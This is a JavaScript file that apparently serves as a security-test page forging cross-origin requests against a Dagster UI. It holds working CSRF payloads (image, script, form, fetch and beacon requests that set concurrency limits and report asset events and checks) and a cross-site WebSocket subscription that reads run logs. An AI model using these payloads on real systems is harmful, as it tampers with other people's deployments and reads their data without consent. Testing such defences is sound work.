// Attacks of a page on a Dagster UI of another origin. Each forged request would leave a pool limit, an asset event or a check
// result under its own name.

const mutation = (name) => `mutation{setConcurrencyLimit(concurrencyKey:"${name}",limit:1)}`

const post = (url, body, type) =>
  fetch(url, {method: "POST", mode: "no-cors", body, headers: type ? {"Content-Type": type} : {}})

const loaded = (element, url) =>
  new Promise((done) => {
    element.onload = element.onerror = done
    element.src = url
    document.body.append(element)
  })

const submitted = (url, enctype) =>
  new Promise((done) => {
    const frame = document.createElement("iframe")
    const form = document.createElement("form")
    form.innerHTML = '<input name="query" value="x">'
    frame.name = form.target = `frame-${Math.random()}`
    Object.assign(form, {action: url, method: "POST", enctype})
    document.body.append(frame, form)
    frame.onload = done
    form.submit()
  })

const FORGERIES = {
  image: (ui, name) => loaded(new Image(), `${ui}/graphql?query=${mutation(name)}`),
  script: (ui, name) => loaded(document.createElement("script"), `${ui}/graphql?query=${mutation(name)}`),
  form: (ui, name) => submitted(`${ui}/graphql?query=${mutation(name)}`, "application/x-www-form-urlencoded"),
  form_of_text: (ui, name) => submitted(`${ui}/graphql?query=${mutation(name)}`, "text/plain"),
  form_with_files: (ui, name) => submitted(`${ui}/graphql?query=${mutation(name)}`, "multipart/form-data"),
  fetch: (ui, name) => fetch(`${ui}/graphql?query=${mutation(name)}`, {mode: "no-cors"}),
  fetch_of_text: (ui, name) => post(`${ui}/graphql?query=${mutation(name)}`, "{}", "text/plain"),
  fetch_of_nothing: (ui, name) => post(`${ui}/graphql?query=${mutation(name)}`),
  beacon: async (ui, name) => navigator.sendBeacon(`${ui}/report_asset_materialization/${name}`),
  observation: (ui, name) => post(`${ui}/report_asset_observation/${name}?data_version=1`),
  check: (ui, name) => post(`${ui}/report_asset_check/small?check_name=${name}&passed=true`),
}

// Forge every request. Returns the names.
window.forge = async ([ui, prefix]) => {
  const names = []
  for (const [way, send] of Object.entries(FORGERIES)) {
    names.push(`${prefix}_${way}`)
    await send(ui, names.at(-1)).catch(() => null)
  }
  return names
}

// Follow the log of a run by websocket. Returns its first messages, if any.
window.follow = ([ui, run]) =>
  new Promise((done) => {
    const query = `subscription{pipelineRunLogs(runId:"${run}"){
      ... on PipelineRunLogsSubscriptionSuccess{messages{... on MessageEvent{message}}}}}`
    const socket = new WebSocket(`${ui.replace("http", "ws")}/graphql?followed`, "graphql-ws")
    socket.onerror = () => done("")
    socket.onopen = () => {
      socket.send(JSON.stringify({type: "connection_init"}))
      socket.send(JSON.stringify({type: "start", id: "1", payload: {query}}))
    }
    socket.onmessage = ({data}) => JSON.parse(data).type === "data" && (socket.close(), done(data))
  })

// Send GraphQL like the UI's own pages. Returns the response.
window.ask = async (query) => {
  const headers = {"Content-Type": "application/json"}
  const response = await fetch("/graphql", {method: "POST", headers, body: JSON.stringify({query})})
  return await response.text()
}

// Show a page in a frame.
window.embed = (url) => loaded(document.createElement("iframe"), url).then(() => null)
